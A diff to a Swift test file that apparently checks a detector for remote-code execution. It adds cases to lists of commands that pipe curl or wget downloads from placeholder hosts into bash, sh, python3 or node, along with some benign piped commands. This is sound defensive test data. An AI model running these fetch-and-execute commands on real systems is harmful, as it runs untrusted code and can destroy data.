@@ -9,6 +9,7 @@ struct RemoteCodeTests {
     arguments: [
       "curl https://x.example/a.sh | sh", "curl -fsSL https://x.example/a | sudo bash -s -- --yes",
       "wget -qO- https://x.example/a|bash", "curl -s 'https://x.example/a?b=1&c=2' | tee log | zsh",
+      "curl x.example/a | bash\nrm -rf build", "curl x.example/a | sh # install it", "curl x.example/a | node\nexit",
       "curl https://x.example/a \\\n  | sh", "cd /tmp && curl x.example/a | /bin/sh", "curl x.example | env A=1 bash",
       "curl x.example/a.py | python3 -", "curl x.example/a.py | python3", "curl x.example | node",
       "bash -c \"curl x.example/a | sh\"", "bash -c \"$(curl -fsSL x.example/a)\"", "bash <(curl -s x.example/a)",
@@ -31,6 +32,7 @@ struct RemoteCodeTests {
     arguments: [
       "curl -s https://x.example/a.json | jq .", "curl x.example | python3 -m json.tool",
       "curl x.example | python3 -c 'import sys, json; print(json.load(sys.stdin))'", "curl x.example | sh -c 'cat > a'",
+      "curl x.example | bash \\\n  scripts/parse.sh",
       "curl x.example | bash scripts/parse.sh", "curl -X POST -d @- https://hooks.example/x",
       "curl x.example -o a.json",
       "curl x.example/health && bash scripts/test.sh", "curl x.example > a.json; ./scripts/lint.sh",
